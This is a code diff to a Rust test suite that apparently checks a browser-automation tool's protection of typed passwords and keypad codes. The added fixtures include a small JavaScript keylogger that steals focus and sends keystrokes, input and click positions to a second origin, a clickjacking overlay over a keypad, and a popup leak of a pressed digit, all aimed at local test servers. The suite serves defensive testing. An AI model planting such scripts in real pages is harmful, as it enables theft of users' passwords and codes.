@@ -30,6 +30,9 @@ pub const ATTACKS: &[Attack] = &[
     Attack { name: "reads-a-keypad", tries: "has a code pressed on a keypad that marks its keys, and reads the page", stopped_by: WITHHELD, verdict: DENIED, off: NO_SECRET, run: Run::Story(|world, defence| presses(world, defence, "tell")) },
     Attack { name: "asks-what-a-keypad-sent", tries: "has a code pressed on a keypad that sends each digit, and asks by patterns which were sent", stopped_by: WITHHELD, verdict: DENIED, off: NO_SECRET, run: Run::Story(|world, defence| presses(world, defence, "answers /pressed?2")) },
     Attack { name: "waits-for-what-was-pressed", tries: "has a code pressed on a keypad that marks its keys, and waits for a mark", stopped_by: WITHHELD, verdict: DENIED, off: NO_SECRET, run: Run::Story(|world, defence| presses(world, defence, "asks .pressed-2")) },
+    Attack { name: "reads-a-popup-of-a-keypad", tries: "has a code pressed on a keypad that opens a window with a digit in its address, and reads that", stopped_by: WITHHELD, verdict: DENIED, off: NO_SECRET, run: Run::Story(|world, defence| presses(world, defence, "popup; tell")) },
+    Attack { name: "takes-the-focus", tries: "has the password typed into a page with a frame of another origin, which takes the focus again and again", stopped_by: "the host types in one go with the look at what has the focus", verdict: Verdict::Nothing, off: Off::By("it is a key that is pressed, which goes to whoever has the focus", HONEST), run: Run::Story(takes_the_focus) },
+    Attack { name: "covers-a-keypad", tries: "has a code pressed on a keypad that a frame of another origin comes over as soon as the pointer does", stopped_by: "the document is asked whether its key has heard the press; the first that it has not ends the run, and cuts all origins off", verdict: Verdict::Refused("source-unavailable", "took the press away"), off: Off::By("it is clicked, which nobody is asked about", HONEST), run: Run::Story(covers_a_keypad) },
     Attack { name: "has-a-form-sent-elsewhere", tries: "has the password typed into a form that is sent to another of its origins", stopped_by: "while a secret stands on a page, the page reaches the origins of its sinks", verdict: Verdict::Nothing, off: Off::By("a sink of the password is at that origin", HONEST), run: Run::Story(elsewhere) },
 ];
 
@@ -93,6 +96,9 @@ fn careless(sent: &Sent) -> Answer {
         )),
         "/pad" => html(PAD.to_owned()),
         "/files" => html(FILES.to_owned()),
+        "/thieved" => html(THIEVED.to_owned()),
+        "/covered" => html(format!("{PAD}{COVERED}")),
+        "/thief" => html(THIEF.to_owned()),
         "/said" => html(format!("<!DOCTYPE html><p class=said>{} {PASSWORD}", sent.query)),
         "/echo" => Answer { body: ("application/json", format!("{{\"said\":\"{PASSWORD}\"}}")), ..Answer::default() },
         _ => html("<!DOCTYPE html><p>Hello.".to_owned()),
@@ -144,6 +150,7 @@ for (let digit = 0; digit < 10; digit++) {
     key.addEventListener('click', () => {
         document.querySelector('p').classList.add('pressed-' + digit);
         fetch('/pressed?' + digit, { method: 'POST' });
+        if (!globalThis.opened) globalThis.opened = open('/said?opened=' + digit);
     });
 }
 </script>";
@@ -156,7 +163,8 @@ fn presses<'w>(world: &'w mut World, defence: Defence, then: &'static str) -> Co
         let browses = browses(&site.url, &aim).password("271828");
         let browses = browses.manifest(true, FIRST, sink("keypad:#keys")).declaring(true, rule);
         let ran = world.run(browses.not_secret(defence == Defence::Off)).await;
-        let harm = ["pressed-7", "/pressed?2 true", "asks true"].iter().any(|each| ran.said().contains(each));
+        let harm =
+            ["pressed-7", "/pressed?2 true", "asks true", "?opened=2"].iter().any(|each| ran.said().contains(each));
         ran.came(harm)
     })
 }
@@ -251,13 +259,12 @@ fn elsewhere(world: &mut World, defence: Defence) -> Coming<'_> {
         let site = site.await.unwrap();
         let browses =
             browses(&site.url, &format!("go /form?to={}; secret #password; key Enter; sees .said", second.url));
-        let origins = format!("origins = [\"{{base}}\", \"{}\"]", second.url);
         let there = format!(
             "[[field.sink]]\nrequest = \"GET {}/said\"\nslot = \"query:word\"\nrecipe = \"raw\"\nmax = 1\n",
             second.url
         );
         let sinks = defence.pick(String::new(), there) + &sink("field:#password");
-        let browses = browses.manifest(true, "origins = [\"{base}\"]", origins).manifest(true, FIRST, sinks);
+        let browses = with_second(browses, &second).manifest(true, FIRST, sinks);
         let ran = world.run(browses.declaring(true, page("/form"))).await;
         let harm = second.heard().iter().any(|request| request.contains("word=Correct"));
         ran.came(harm)
@@ -266,3 +273,58 @@ fn elsewhere(world: &mut World, defence: Defence) -> Coming<'_> {
 
 const SENT_ELSEWHERE: &str =
     "<!DOCTYPE html><form action={second}/said><input id=password name=word type=password><button>ok</button></form>";
+
+/// What is typed and pressed in a frame that takes what it can get.
+const THIEF: &str = "<!DOCTYPE html><input id=own><script>
+const says = what => fetch('/stolen?' + what);
+own.oninput = () => says(own.value);
+onkeydown = told => says(told.key);
+onpointerdown = told => says(told.clientX);
+setInterval(() => own.focus(), 0);
+</script>";
+const THIEVED: &str = "<!DOCTYPE html><input id=password type=password><iframe width=300 height=60></iframe><script>
+password.oninput = () => password.classList.add('typed');
+document.querySelector('iframe').src = location.search.slice('?to='.length) + '/thief';
+</script>";
+const COVERED: &str =
+    "<iframe style='position:absolute;left:0;top:0;width:600px;height:300px;border:0;display:none'></iframe><script>
+document.querySelector('iframe').src = location.search.slice('?to='.length) + '/thief';
+onmousemove = () => { document.querySelector('iframe').style.display = 'block'; };
+globalThis.opened = true;
+</script>";
+
+fn takes_the_focus(world: &mut World, defence: Defence) -> Coming<'_> {
+    let acts = defence.pick("secret #password; sees .typed", "click #password; doubts selector #never; key Delete");
+    Box::pin(async move {
+        let (site, second) = (EchoSite::start(careless).await.unwrap(), EchoSite::start(careless).await.unwrap());
+        let aim = format!("go /thieved?to={}; {acts}; waits network-idle ", second.url);
+        // What it gets it may send: the password has a sink there, too.
+        let there = format!(
+            "[[field.sink]]\nrequest = \"GET {}/said\"\nslot = \"query:word\"\nrecipe = \"raw\"\nmax = 1\n",
+            second.url
+        );
+        let browses =
+            with_second(browses(&site.url, &aim), &second).manifest(true, FIRST, there + &sink("field:#password"));
+        let ran = world.run(browses.declaring(true, page("/thieved"))).await;
+        let harm = second.heard().iter().any(|request| request.contains("/stolen"));
+        ran.came(harm)
+    })
+}
+
+fn covers_a_keypad(world: &mut World, defence: Defence) -> Coming<'_> {
+    let acts = defence.pick("keypad #keys button", "click #keys button:nth-child(3)");
+    Box::pin(async move {
+        let (site, second) = (EchoSite::start(careless).await.unwrap(), EchoSite::start(careless).await.unwrap());
+        let aim = format!("go /covered?to={}; {acts}; waits network-idle ", second.url);
+        let rule = "[[page]]\nid = \"typed\"\nurl = \"{base}/covered\"\nrequires = [\"#keys button\"]\n";
+        let browses = with_second(browses(&site.url, &aim), &second).password("271828");
+        let browses = browses.manifest(true, FIRST, sink("keypad:#keys")).declaring(true, rule);
+        let ran = world.run(browses).await;
+        let harm = second.heard().iter().any(|request| request.contains("/stolen"));
+        ran.came(harm)
+    })
+}
+
+fn with_second(probe: Probe, second: &EchoSite) -> Probe {
+    probe.manifest(true, "origins = [\"{base}\"]", format!("origins = [\"{{base}}\", \"{}\"]", second.url))
+}
